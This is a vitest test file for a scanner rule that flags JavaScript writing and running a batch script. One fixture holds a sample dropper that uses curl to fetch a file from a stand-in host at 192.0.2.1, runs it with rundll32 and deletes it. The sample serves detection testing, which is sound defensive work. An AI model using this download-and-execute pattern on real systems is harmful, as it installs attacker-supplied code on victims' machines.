import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-014 write-and-run-script', () => {
  it('analyses the body of a written batch file and its execution', async () => {
    const code = `const fs = require('fs'); const { exec } = require('child_process');
      const data = '@echo off\\ncurl -o t.db -L "http://192.0.2.1/m" > nul\\nrundll32 t.db,Start 1\\ndel t.db';
      fs.writeFile('run.bat', data, () => exec('"run.bat"'));`;
    const f = await ruleFindings('JS-014', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    expect(f[0]!.evidence?.techniques).toContain('lolbin');
  });
  it('ignores writing a harmless config file', async () => {
    const code = "require('fs').writeFileSync('config.sh', 'export APP_MODE=production\\n');";
    expect(await ruleFindings('JS-014', code)).toHaveLength(0);
  });
});
